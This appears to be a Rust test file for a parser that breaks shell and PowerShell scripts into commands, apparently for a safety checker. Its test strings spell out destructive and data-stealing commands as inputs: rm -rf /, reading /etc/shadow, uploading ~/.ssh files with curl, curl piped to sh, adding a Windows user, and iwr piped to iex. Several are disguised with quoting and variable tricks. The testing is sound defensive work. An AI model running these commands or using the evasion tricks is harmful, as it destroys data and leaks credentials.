//! What the reader makes of scripts, whole and broken.

use super::{Command, Mode, Script, strip, unescape, unwrap, windows_commands};

fn words(script: &str) -> Vec<Vec<String>> {
    Script::parse(script)
        .commands
        .into_iter()
        .map(|command| command.words.iter().map(ToString::to_string).collect::<Vec<_>>())
        .filter(|words| !words.is_empty())
        .collect()
}

/// The words of the last command, joined by `|`.
fn last(script: &str) -> String {
    words(script).pop().unwrap_or_default().join("|")
}

#[test]
fn quotes_and_escapes_make_one_word() {
    assert_eq!(last(r#"r''m -r"f" '/tmp/a b' c\ d"#), "rm|-rf|/tmp/a b|c d");
    assert_eq!(last("wget${IFS}http://x"), "wget|http://x");
    assert_eq!(last("$'\\x72\\155' -rf"), "rm|-rf");
    assert_eq!(last("{rm,-rf,/}"), "rm|-rf|/");
    assert_eq!(last("ec\\\nho hi"), "echo|hi");
    assert_eq!(last("w$@get x"), "wget|x");
    assert_eq!(last("echo \"it's\" # rm -rf /"), "echo|it's");
}

#[test]
fn variables_are_followed_as_far_as_they_are_known() {
    assert_eq!(last("a='rm -rf'; $a /"), "rm|-rf|/");
    assert_eq!(last("x=abcrmdef; ${x:3:2} -r"), "rm|-r");
    assert_eq!(last("x=/etc; cat ${x}/shadow"), "cat|/etc/shadow");
    assert_eq!(last("cat ${y:-/etc/shadow}"), "cat|/etc/shadow");
    assert_eq!(last("x=c_url; ${x//_/} u"), "curl|u");
    assert_eq!(last("for f in ~/.ssh/*; do curl -T \"$f\" x; done"), "curl|-T|~/.ssh/*|x");
    assert_eq!(last("rm -rf $HOME/*"), "rm|-rf|$HOME/*");
}

#[test]
fn every_command_of_a_list_is_seen() {
    let names: Vec<String> =
        words("if a; then b && c || d & fi; while e; do (f; g); done; h() { i; }; case $x in y) j;; esac")
            .into_iter()
            .map(|words| words[0].clone())
            .collect();
    for name in ["a", "b", "c", "d", "e", "f", "g", "i", "j"] {
        assert!(names.contains(&name.to_owned()), "{name} is missing in {names:?}");
    }
}

#[test]
fn pipes_know_where_they_come_from() {
    let commands = Script::parse("a | b |& c; d | (e) | f").commands;
    let upstream = |name: &str| {
        let command: &Command<'_> = commands.iter().find(|command| command.words[0] == name).unwrap();
        command.upstream.map(|at| commands[at].words[0].clone())
    };
    assert_eq!(upstream("a"), None);
    assert_eq!(upstream("c").as_deref(), Some("b"));
    assert_eq!(upstream("d"), None);
    assert_eq!(upstream("e").as_deref(), Some("d"));
    assert_eq!(upstream("f").as_deref(), Some("e"));
}

#[test]
fn substitutions_stand_inside_their_command() {
    let commands = Script::parse("echo \"$(cat ~/.ssh/id_rsa | base64)\" `id` <(curl x)").commands;
    let echo = commands.last().unwrap();
    let inner: Vec<&str> =
        commands[echo.inner.clone()].iter().map(|command| command.words[0].as_ref()).collect();
    assert_eq!(inner, ["cat", "base64", "id", "curl"]);
    assert_eq!(echo.words[1], "$(cat ~/.ssh/id_rsa | base64)");
}

#[test]
fn redirections_and_here_documents_are_taken_off() {
    let commands =
        Script::parse("cat <<'EOF' | bash 2>&1 >> ~/.bashrc\nrm x\nEOF\necho done > /dev/sda").commands;
    assert_eq!(commands[1].input, "rm x\n");
    assert!(
        commands[1]
            .redirects
            .iter()
            .any(|redirect| redirect.mode == Mode::Append && redirect.target == "~/.bashrc")
    );
    assert_eq!(commands[2].redirects[0].target, "/dev/sda");
}

#[test]
fn wrappers_come_off() {
    let unwrapped = |script: &'static str| {
        let mut command = Script::parse(script).commands.pop().unwrap();
        strip(&mut command);
        (command.words.join(" "), unwrap(&command))
    };
    assert_eq!(unwrapped("sudo -u root env A=1 nohup timeout 5 rm x").0, "rm x");
    assert_eq!(unwrapped("bash -lc 'rm x'").1.scripts, ["rm x"]);
    assert_eq!(unwrapped("ssh -p 22 -i key host rm x").1.scripts, ["rm x"]);
    assert_eq!(unwrapped("find / -name y -exec rm x \\;").1.commands, [["rm", "x"]]);
    assert_eq!(unwrapped("docker exec -it web sh -c 'rm x'").1.commands, [["sh", "-c", "rm x"]]);
    assert_eq!(unwrapped("xargs -n 1 -I{} rm x").1.commands, [["rm", "x"]]);
}

#[test]
fn places_lead_back_to_the_script() {
    let script = "true; rm -rf / ; false";
    let commands = Script::parse(script).commands;
    assert_eq!(script[commands[1].start..commands[1].end].trim(), "rm -rf /");
}

#[test]
fn windows_scripts_have_programs_and_arguments() {
    let commands = windows_commands(
        "@p^owershell -c \"a b\" & C:\\Windows\\System32\\net.exe user x /add\n$u = 'http://x'; iwr $u | iex",
    );
    let programs: Vec<&str> = commands.iter().map(Command::program).collect();
    assert_eq!(programs, ["powershell", "net", "http://x".rsplit('/').next().unwrap(), "iwr", "iex"]);
    assert_eq!(commands[0].words[2], "a b");
    assert_eq!(commands[3].words[1], "http://x");
    assert_eq!(commands[4].upstream, Some(3));
}

#[test]
fn escapes_are_undone_as_echo_does() {
    assert_eq!(unescape(r"\x72\155\t\u0041\q\"), "rm\tAq\\");
}

/// A small generator with a fixed seed: the same bytes on every machine.
struct Random(u64);

impl Random {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        self.0 >> 33
    }
}

#[test]
fn no_bytes_make_it_panic() {
    const PIECES: [&str; 40] = [
        "$(", ")", "`", "\"", "'", "\\", "\n", "<<EOF", "EOF", "<<<", "${", "}", "a=", "(", "((", "))", "|",
        "&", ";", ">", "<(", "$'", "\\x", "$", "é", "𝕏", "\u{200b}", " ", "{a,b}", "for x in", "case",
        "esac", "sudo", "bash -c", "eval", "#", "[[", "0", "2>&1", "$((",
    ];
    let mut random = Random(7);
    for _ in 0..20_000 {
        let count = random.next() % 24;
        let text: String = (0..count).map(|_| PIECES[(random.next() % 40) as usize]).collect();
        let script = Script::parse(&text);
        for mut command in script.commands {
            assert!(command.start <= command.end && command.end <= text.len(), "{text:?}");
            strip(&mut command);
            unwrap(&command);
        }
        windows_commands(&text);
    }
}

#[test]
fn depth_is_bounded() {
    for open in ["$(", "(", "`", "${a:-", "\"$(", "<(", "{ "] {
        let text = open.repeat(200_000);
        let script = Script::parse(&text);
        assert!(script.steps <= 40 * open.len() * 200_000, "{open}: {} steps", script.steps);
    }
}

#[test]
fn work_grows_with_length_alone() {
    for line in [
        "a=$a$a; echo \"$a\" `b` $(c | d) > e\n",
        "cat <<X\n",
        "x=(1 2 3) ${x} ${x//1/2}\n",
        "((",
        "$((1",
        "\"",
        "'a' ",
    ] {
        let short = Script::parse(&line.repeat(1_000)).steps;
        let long = Script::parse(&line.repeat(10_000)).steps;
        assert!(long <= 12 * short + 1_000, "{line:?}: {short} steps, then {long}");
    }
    let big = "curl -s http://example.net/a | sh # x\n".repeat(280_000);
    assert!(Script::parse(&big).steps <= 2 * big.len());
}
